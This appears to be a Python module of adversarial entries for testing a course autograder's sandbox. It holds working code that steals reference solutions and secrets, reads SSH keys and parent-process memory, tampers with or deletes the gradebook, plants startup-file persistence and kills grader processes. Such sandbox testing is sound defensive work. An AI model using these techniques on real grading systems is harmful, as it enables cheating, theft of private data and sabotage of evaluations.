"""Integrity: what lies on the disk, in other processes and on the network.

Answers are read from the course's own files, grades are written past the grader, and
other people's work is read or changed. An entry whose answer is right tries only to
harm or to spy; it keeps its points, and the runner looks for the harm.
"""

from .entry import Entry, answer, attack, before_right

EXEC_REFERENCE = """
def reference_from(text):
    import re
    bank = re.search(r'Bank\\\\?\\(\\\\?"leaky\\\\?", r' + "'''(.*?)'''", text, re.S)
    if not bank:
        raise LookupError
    source = bank[1]
    if "\\\\n" in source and "\\n" not in source:
        source = source.encode().decode("unicode_escape")
    names = {}
    exec(source, names)
    return names["leaky"]
"""

FALLBACK = """
def leaky(x, decay):
    try:
        return found(x, decay)
    except NameError:
        return torch.tensor([[4.0, 2.0, 2.0]])
"""


def thief(name: str, why: str, code: str, **more) -> Entry:
    """An answer that looks for the reference solution and uses what it finds."""
    indented = "\n".join("    " + line for line in code.strip().splitlines())
    body = (
        f"{EXEC_REFERENCE}\ntry:\n{indented}\nexcept Exception:\n    pass\n{FALLBACK}"
    )
    return Entry(name, why, {"leaky": body}, **more)


READING = [
    thief(
        "solution_file_read",
        "the instructor's notebook lies in the course",
        """
import json
nb = json.load(open("@COURSE@/solutions/01_corpus/01_corpus.ipynb"))
found = reference_from("".join("".join(c["source"]) for c in nb["cells"]))
""",
        quick=True,
    ),
    thief(
        "solution_file_found",
        "so do all files above the working directory",
        """
import glob, json, os
for up in range(1, 6):
    for path in glob.glob("../" * up + "solutions/*/*.ipynb"):
        nb = json.load(open(path))
        found = reference_from("".join("".join(c["source"]) for c in nb["cells"]))
""",
    ),
    thief(
        "solution_text_read",
        "or the source from which it was built",
        """
import re
text = open("@COURSE@/solutions/01_corpus.py").read()
body = re.search(r"(def leaky.*?)### END SOLUTION", text, re.S)[1]
names = {"torch": torch}
exec(body, names)
found = names["leaky"]
""",
    ),
    thief(
        "gradebook_read",
        "the gradebook holds the hidden tests",
        """
import sqlite3
rows = sqlite3.connect("file:@COURSE@/gradebook.db?mode=ro", uri=True).execute(
    "select source from source_cell").fetchall()
found = reference_from("".join(row[0] or "" for row in rows))
""",
        quick=True,
    ),
    thief(
        "neighbour_read",
        "somebody else has handed in an answer",
        """
import glob, json
for path in glob.glob("@COURSE@/submitted/*/01_corpus/*.ipynb"):
    for c in json.load(open(path))["cells"]:
        source = "".join(c["source"])
        if "canary-" + "neighbour" in source and "def leaky" in source:
            names = {"torch": torch}
            exec(source, names)
            found = names["leaky"]
""",
        quick=True,
    ),
    thief(
        "neighbour_graded_read",
        "and has been graded",
        """
import glob, json
for path in glob.glob("@COURSE@/autograded/a_neighbour/01_corpus/*.ipynb"):
    nb = json.load(open(path))
    found = reference_from("".join("".join(c["source"]) for c in nb["cells"]))
""",
    ),
    thief(
        "root_of_another_process",
        "the root directory of the parent, by way of /proc",
        """
import json, os
for pid in (1, os.getppid()):
    path = f"/proc/{pid}/root@COURSE@/solutions/01_corpus/01_corpus.ipynb"
    if os.path.exists(path):
        nb = json.load(open(path))
        found = reference_from("".join("".join(c["source"]) for c in nb["cells"]))
""",
    ),
    thief(
        "open_descriptors",
        "files that the parent had open when it started the kernel",
        """
import os
for number in range(3, 256):
    try:
        path = os.readlink(f"/proc/self/fd/{number}")
        text = open(f"/proc/self/fd/{number}", errors="replace").read()
        found = reference_from(text)
    except (OSError, LookupError):
        pass
""",
    ),
    thief(
        "memory_of_the_parent",
        "the parent process has read the hidden tests",
        """
import os, re
for pid in (os.getppid(), 1):
    for line in open(f"/proc/{pid}/maps"):
        low, high = (int(n, 16) for n in line.split()[0].split("-"))
        if "rw-p" not in line or high - low > 1 << 27 or "/" in line:
            continue
        with open(f"/proc/{pid}/mem", "rb") as memory:
            memory.seek(low)
            data = memory.read(high - low).decode("latin-1")
        try:
            found = reference_from(data)
        except Exception:
            pass
""",
    ),
    thief(
        "files_of_the_checks",
        "load_bank, which reads the bank from the course's files",
        """
from course_lib.checks import load_bank
found = load_bank("01_corpus", "leaky").reference
""",
    ),
    thief(
        "temporary_files",
        "what graders leave in /tmp while they work",
        """
import glob
for path in glob.glob("/tmp/**/*.ipynb", recursive=True)[:2000]:
    try:
        found = reference_from(open(path).read())
    except (OSError, LookupError, ValueError):
        pass
""",
    ),
]

SPYING = [
    before_right(
        "prints_hidden_files",
        "an honest answer whose output holds the hidden tests, for the next attempt",
        """
        import glob
        for path in glob.glob("@COURSE@/solutions/**/*.*", recursive=True):
            text = open(path).read()
            place = text.find("canary-" + "hidden")
            print(path, text[place:place + 60] if place >= 0 else "")
        """,
        quick=True,
    ),
    before_right(
        "prints_environment",
        "the grader's environment, with its secrets",
        """
        import os
        print(dict(os.environ))
        for pid in (1, os.getppid(), os.getpid()):
            try:
                print(open(f"/proc/{pid}/environ").read())
            except OSError as error:
                print(error)
        """,
        quick=True,
    ),
    before_right(
        "prints_other_submissions",
        "what the others have written",
        """
        import glob
        for path in glob.glob("@COURSE@/submitted/*/*/*.ipynb"):
            text = open(path).read()
            place = text.find("canary-" + "neighbour")
            print(path, text[place:place + 60] if place >= 0 else "")
        """,
    ),
    before_right(
        "prints_roster",
        "names and addresses of the class",
        """
        try:
            print(open("@COURSE@/roster.csv").read())
        except OSError as error:
            print(type(error))
        """,
        quick=True,
    ),
    before_right(
        "prints_home",
        "keys in the home directory of the grader",
        """
        try:
            print(open("@HOME@/.ssh/id_ed25519").read())
        except OSError as error:
            print(type(error))
        """,
    ),
    before_right(
        "prints_command_lines",
        "what other processes were started with",
        """
        import glob
        for path in glob.glob("/proc/[0-9]*/environ"):
            try:
                text = open(path).read()
                place = text.find("canary-" + "environment")
                if place >= 0:
                    print(path, text[place:place + 60])
            except OSError:
                pass
        """,
    ),
    before_right(
        "prints_gradebook",
        "everybody's grades",
        """
        import sqlite3
        try:
            base = sqlite3.connect("file:@COURSE@/gradebook.db?mode=ro", uri=True)
            print(base.execute("select email from student").fetchall())
        except sqlite3.Error as error:
            print(type(error))
        """,
    ),
    before_right(
        "calls_home_by_tcp",
        "a connection to somebody who listens",
        """
        import socket
        try:
            with socket.create_connection(("127.0.0.1", @PORT@), timeout=1) as wire:
                wire.sendall(b"tcp")
        except OSError as error:
            print(type(error))
        """,
        quick=True,
    ),
    before_right(
        "calls_home_by_udp",
        "a packet to somebody who listens",
        """
        import socket
        try:
            with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as wire:
                wire.sendto(b"udp", ("127.0.0.1", @PORT@))
        except OSError as error:
            print(type(error))
        """,
    ),
    before_right(
        "calls_home_by_unix_socket",
        "a name that lies in no directory",
        """
        import socket
        for address in ("\\0corpus-@PORT@", "@OUTSIDE@/socket"):
            try:
                with socket.socket(socket.AF_UNIX) as wire:
                    wire.connect(address)
                    wire.sendall(b"unix")
            except OSError as error:
                print(type(error))
        """,
    ),
]


def writer(name: str, why: str, path: str, text: str = "x = 1", **more) -> Entry:
    """An honest answer that also writes to a file which is not its own."""
    code = f"""
try:
    with open({path!r}, "a") as file:
        file.write({text!r})
except OSError as error:
    print(type(error))
"""
    return before_right(name, why, code, **more)


WRITING = [
    attack(
        "gradebook_written",
        "the grader's database gets the points directly",
        """
        import sqlite3
        try:
            base = sqlite3.connect("@COURSE@/gradebook.db", timeout=1)
            base.execute("update grade set manual_score = 3.0")
            base.commit()
        except sqlite3.Error:
            pass
        """,
        quick=True,
    ),
    attack(
        "gradebook_trigger",
        "a trigger that gives points to every grade from now on",
        """
        import sqlite3
        try:
            base = sqlite3.connect("@COURSE@/gradebook.db", timeout=1)
            base.execute("create trigger gift after update on grade begin "
                         "update grade set extra_credit = 9 where id = new.id; end")
            base.commit()
        except sqlite3.Error:
            pass
        """,
    ),
    attack(
        "gradebook_of_others",
        "the others lose their points",
        """
        import sqlite3
        try:
            base = sqlite3.connect("@COURSE@/gradebook.db", timeout=1)
            base.execute("update grade set manual_score = 0.0")
            base.commit()
        except sqlite3.Error:
            pass
        """,
    ),
    before_right(
        "gradebook_locked",
        "a lock on the database, held while the grader wants to write",
        """
        import sqlite3
        try:
            held = sqlite3.connect("@COURSE@/gradebook.db", timeout=1,
                                   check_same_thread=False)
            held.execute("begin exclusive")
        except sqlite3.Error as error:
            print(type(error))
        """,
    ),
    before_right(
        "gradebook_deleted",
        "no gradebook, no grades",
        """
        import os
        for end in ("", "-journal", "-wal"):
            try:
                os.remove("@COURSE@/gradebook.db" + end)
            except OSError as error:
                print(type(error))
        """,
        quick=True,
    ),
    writer(
        "solution_written",
        "the instructor's notebook is damaged",
        "@COURSE@/solutions/01_corpus/01_corpus.ipynb",
    ),
    writer(
        "release_written",
        "the released notebook is damaged",
        "@COURSE@/exercises/01_corpus/01_corpus.ipynb",
    ),
    writer(
        "neighbour_written",
        "somebody's submission is damaged",
        "@COURSE@/submitted/z_neighbour/01_corpus/01_corpus.ipynb",
        quick=True,
    ),
    writer(
        "neighbour_graded_written",
        "somebody's graded notebook is damaged",
        "@COURSE@/autograded/a_neighbour/01_corpus/01_corpus.ipynb",
    ),
    writer(
        "configuration_written",
        "code in the grader's configuration",
        "@COURSE@/nbgrader_config.py",
        "\nc = get_config()\n",
    ),
    writer(
        "checks_written",
        "the checks that every later test imports",
        "@LIB@/course_lib/checks/task.py",
        "\nTask.hidden = lambda *a, **k: None\n",
        quick=True,
    ),
    writer("outside_written", "a file outside the course", "@OUTSIDE@/dropped"),
    writer("shared_memory_written", "shared memory", "/dev/shm/corpus-@PORT@"),
    before_right(
        "start_up_file_written",
        "code that every later kernel of this grader runs",
        """
        import os
        folder = "@HOME@/.ipython/profile_default/startup"
        try:
            os.makedirs(folder, exist_ok=True)
            with open(folder + "/00_gift.py", "w") as file:
                file.write("from course_lib import checks\\n"
                           "checks.Task.hidden = lambda *a, **k: None\\n")
        except OSError as error:
            print(type(error))
        """,
        quick=True,
    ),
    before_right(
        "user_site_written",
        "code that every later Python of this grader runs",
        """
        import os, sys
        folder = "@HOME@/.local/lib/python%d.%d/site-packages" % sys.version_info[:2]
        try:
            os.makedirs(folder, exist_ok=True)
            with open(folder + "/usercustomize.py", "w") as file:
                file.write("gift = True\\n")
        except OSError as error:
            print(type(error))
        """,
    ),
    before_right(
        "neighbour_removed",
        "somebody's submission is gone",
        """
        import shutil
        shutil.rmtree("@COURSE@/submitted/z_neighbour", ignore_errors=True)
        """,
        quick=True,
    ),
    before_right(
        "neighbour_renamed",
        "somebody's submission has a new owner",
        """
        import os
        try:
            os.rename("@COURSE@/submitted/z_neighbour", "@COURSE@/submitted/y_thief")
        except OSError as error:
            print(type(error))
        """,
    ),
    before_right(
        "course_made_unreadable",
        "the course's folders lose their permissions",
        """
        import os
        for name in ("solutions", "submitted"):
            try:
                os.chmod("@COURSE@/" + name, 0)
            except OSError as error:
                print(type(error))
        """,
    ),
    before_right(
        "files_for_the_next",
        "modules in the working directory that later imports find first",
        """
        for name in ("torch.py", "course_lib.py", "sitecustomize.py", "json.py"):
            try:
                with open(name, "w") as file:
                    file.write("raise SystemExit\\n")
            except OSError as error:
                print(type(error))
        """,
    ),
    before_right(
        "own_time_stamp",
        "handed in on time after all",
        """
        for folder in (".", "@COURSE@/submitted/own_time_stamp/01_corpus"):
            try:
                with open(folder + "/timestamp.txt", "w") as file:
                    file.write("2001-01-01 00:00:00 UTC")
            except OSError as error:
                print(type(error))
        """,
    ),
    before_right(
        "working_directory_linked",
        "a link in the place where results are collected",
        """
        import os
        for name in ("result.html", "roster.csv"):
            try:
                os.symlink("@COURSE@/roster.csv", name)
            except OSError as error:
                print(type(error))
        """,
    ),
]

PROCESSES = [
    before_right(
        "parent_killed",
        "whoever started the kernel dies",
        """
        import os, signal
        try:
            if os.getppid() > 1:
                os.kill(os.getppid(), signal.SIGKILL)
        except OSError as error:
            print(type(error))
        """,
        golden={"leaky": (0, 3)},
        quick=True,
    ),
    before_right(
        "graders_killed",
        "every process that names the course dies",
        """
        import glob, os, signal
        for path in glob.glob("/proc/[0-9]*/cmdline"):
            pid = int(path.split("/")[2])
            try:
                if pid != os.getpid() and "@COURSE@" in open(path).read():
                    os.kill(pid, signal.SIGKILL)
            except OSError:
                pass
        """,
    ),
    before_right(
        "parent_stopped",
        "whoever started the kernel sleeps for ever",
        """
        import os, signal
        try:
            if os.getppid() > 1:
                os.kill(os.getppid(), signal.SIGSTOP)
        except OSError as error:
            print(type(error))
        """,
        golden={"leaky": (0, 3)},
    ),
    before_right(
        "group_killed",
        "the whole process group dies",
        """
        import os, signal
        os.killpg(0, signal.SIGKILL)
        """,
        golden={"leaky": (0, 3)},
    ),
    before_right(
        "other_kernels_joined",
        "connection files of kernels, with their keys",
        """
        import glob, json, os
        for path in glob.glob("@HOME@/.local/share/jupyter/runtime/*.json"):
            try:
                print(os.path.basename(path), sorted(json.load(open(path))))
            except (OSError, ValueError):
                pass
        """,
    ),
    before_right(
        "parent_traced",
        "a debugger on the parent",
        """
        import ctypes, os
        if os.getppid() > 1:
            libc = ctypes.CDLL(None, use_errno=True)
            seized = libc.ptrace(0x4206, os.getppid(), 0, 0)
            print("seized" if seized == 0 else "refused")
        """,
    ),
    answer(
        "shell_commands",
        "the shell reads what Python may not",
        """
        out = get_ipython().getoutput(
            "grep -rhoa 'canary.hidden[a-z-]*' @COURSE@/solutions | head -3")
        print(out)
        def leaky(x, decay):
            return x
        """,
    ),
]

ENTRIES: list[Entry] = READING + SPYING + WRITING + PROCESSES
